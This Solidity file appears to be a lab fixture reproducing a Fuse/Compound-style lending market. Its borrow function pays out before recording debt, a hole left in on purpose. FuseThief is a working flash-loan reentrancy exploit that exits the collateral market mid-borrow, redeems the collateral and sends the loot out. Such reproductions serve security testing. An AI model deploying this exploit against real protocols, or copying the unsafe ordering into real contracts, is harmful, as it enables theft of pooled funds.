// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";
import {FlashLender, IBorrower, Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";

/// Judges what an account may borrow over all markets, in the manner of Compound's.
contract FuseComptroller {
    address public immutable admin = msg.sender;
    mapping(FuseMarket => uint256) public price; // of 10^18 base units, in 10^-18 dollars
    mapping(address => FuseMarket[]) private assets;
    mapping(FuseMarket => mapping(address => bool)) public checkMembership;
    address[] private borrowers;

    event MarketListed(FuseMarket cToken);
    event MarketEntered(FuseMarket cToken, address account);
    event MarketExited(FuseMarket cToken, address account);

    function support(FuseMarket market, uint256 price_) external {
        require(msg.sender == admin, "not the admin");
        price[market] = price_;
        emit MarketListed(market);
    }

    function enterMarket(FuseMarket market) external {
        require(price[market] > 0, "not listed");
        if (checkMembership[market][msg.sender]) return;
        checkMembership[market][msg.sender] = true;
        assets[msg.sender].push(market);
        emit MarketEntered(market, msg.sender);
    }

    function exitMarket(FuseMarket market) external {
        require(market.borrowBalance(msg.sender) == 0, "still owed");
        require(healthy(msg.sender, market, market.balanceOf(msg.sender), 0), "shortfall");
        checkMembership[market][msg.sender] = false;
        FuseMarket[] storage mine = assets[msg.sender];
        for (uint256 i = 0; i < mine.length; i++) {
            if (mine[i] == market) {
                mine[i] = mine[mine.length - 1];
                mine.pop();
                break;
            }
        }
        emit MarketExited(market, msg.sender);
    }

    function redeemAllowed(address account, uint256 amount) external view returns (bool) {
        FuseMarket market = FuseMarket(msg.sender);
        return !checkMembership[market][account] || healthy(account, market, amount, 0);
    }

    function borrowAllowed(address account, uint256 amount) external returns (bool) {
        FuseMarket market = FuseMarket(msg.sender);
        require(price[market] > 0, "not listed");
        if (!checkMembership[market][account]) {
            checkMembership[market][account] = true;
            assets[account].push(market);
        }
        if (market.borrowBalance(account) == 0) borrowers.push(account);
        return healthy(account, market, 0, amount);
    }

    /// How many borrowers owe more than they may.
    function insolvent() external view returns (uint256 count) {
        for (uint256 i = 0; i < borrowers.length; i++) {
            if (!healthy(borrowers[i], FuseMarket(address(0)), 0, 0)) count++;
        }
    }

    function healthy(address account, FuseMarket changed, uint256 redeem, uint256 borrow) public view returns (bool) {
        (uint256 has, uint256 owes) = (0, 0);
        for (uint256 i = 0; i < assets[account].length; i++) {
            FuseMarket market = assets[account][i];
            uint256 held = market.balanceOf(account) - (market == changed ? redeem : 0);
            has += held * price[market] / 1e18 * 75 / 100;
            owes += (market.borrowBalance(account) + (market == changed ? borrow : 0)) * price[market] / 1e18;
        }
        return has >= owes;
    }
}

/// A market of a token, or of ether where there is none. A share is a unit: interest is left out.
contract FuseMarket {
    FuseComptroller public immutable comptroller;
    Token public immutable underlying;
    mapping(address => uint256) public balanceOf;
    mapping(address => uint256) public borrowBalance;
    uint256 public totalSupply;
    uint256 public totalBorrows;
    bool private entered;

    event Mint(address minter, uint256 mintAmount, uint256 mintTokens);
    event Redeem(address redeemer, uint256 redeemAmount, uint256 redeemTokens);
    event Borrow(address borrower, uint256 borrowAmount, uint256 accountBorrows, uint256 totalBorrows);
    event RepayBorrow(address payer, address borrower, uint256 repayAmount, uint256 accountBorrows, uint256 totalBorrows);

    modifier nonReentrant() {
        require(!entered, "re-entered");
        entered = true;
        _;
        entered = false;
    }

    constructor(FuseComptroller comptroller_, Token underlying_) {
        (comptroller, underlying) = (comptroller_, underlying_);
    }

    function mint(uint256 amount) external payable nonReentrant {
        amount = take(amount);
        balanceOf[msg.sender] += amount;
        totalSupply += amount;
        emit Mint(msg.sender, amount, amount);
    }

    function redeem(uint256 amount) external nonReentrant {
        require(comptroller.redeemAllowed(msg.sender, amount), "shortfall");
        balanceOf[msg.sender] -= amount;
        totalSupply -= amount;
        give(amount);
        emit Redeem(msg.sender, amount, amount);
    }

    function borrow(uint256 amount) external nonReentrant {
        require(comptroller.borrowAllowed(msg.sender, amount), "shortfall");
        uint256 owes = borrowBalance[msg.sender] + amount;
        // The older code of this family pays first and books afterwards.
        give(amount);
        borrowBalance[msg.sender] = owes;
        totalBorrows += amount;
        emit Borrow(msg.sender, amount, owes, totalBorrows);
    }

    function repayBorrow(uint256 amount) external payable nonReentrant {
        amount = take(amount);
        borrowBalance[msg.sender] -= amount;
        totalBorrows -= amount;
        emit RepayBorrow(msg.sender, msg.sender, amount, borrowBalance[msg.sender], totalBorrows);
    }

    function getCash() external view returns (uint256) {
        return address(underlying) == address(0) ? address(this).balance : underlying.balanceOf(address(this));
    }

    function take(uint256 amount) private returns (uint256) {
        if (address(underlying) == address(0)) return msg.value;
        underlying.transferFrom(msg.sender, address(this), amount);
        return amount;
    }

    function give(uint256 amount) private {
        if (address(underlying) == address(0)) {
            (bool ok,) = msg.sender.call{value: amount}("");
            require(ok, "not paid");
        } else {
            underlying.transfer(msg.sender, amount);
        }
    }
}

/// Borrows ether against borrowed collateral, and takes the collateral back before the debt is in the books.
contract FuseThief {
    FuseMarket private dollars;
    FuseMarket private ether_;

    struct Job {
        FuseMarket dollars;
        FuseMarket ether_;
        Pool pool;
        uint256 amount;
    }

    function run(FlashLender lender, Job calldata job, uint256 stake, address payable payee) external {
        (dollars, ether_) = (job.dollars, job.ether_);
        lender.flashLoan(IBorrower(address(this)), job.dollars.underlying(), stake, abi.encode(job));
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    function onFlashLoan(address, Token token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        Job memory job = abi.decode(data, (Job));
        token.approve(address(dollars), amount);
        dollars.mint(amount);
        dollars.comptroller().enterMarket(dollars);
        ether_.borrow(job.amount);
        dollars.redeem(amount);
        // Some of the loot buys the dollars for the lender's fee.
        require(Shop.buy(job.pool, address(this).balance / 50) >= fee, "the fee costs more");
        token.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    receive() external payable {
        if (msg.sender == address(ether_)) dollars.comptroller().exitMarket(dollars);
    }
}

/// Levers a position up: as soon as borrowed ether arrives it is sold, and the dollars become more collateral, while the
/// loan is still being paid out.
contract FuseLever {
    address private immutable owner = msg.sender;
    FuseMarket private immutable dollars;
    FuseMarket private immutable ether_;
    Pool private immutable pool;

    constructor(FuseMarket dollars_, FuseMarket ether__, Pool pool_) {
        (dollars, ether_, pool) = (dollars_, ether__, pool_);
    }

    function open(uint256 stake, uint256 loan) external {
        require(msg.sender == owner, "not the owner");
        Token token = dollars.underlying();
        token.transferFrom(msg.sender, address(this), stake);
        token.approve(address(dollars), type(uint256).max);
        dollars.mint(stake);
        dollars.comptroller().enterMarket(dollars);
        ether_.borrow(loan);
    }

    receive() external payable {
        if (msg.sender != address(ether_)) return;
        dollars.mint(Shop.buy(pool, msg.value));
    }
}
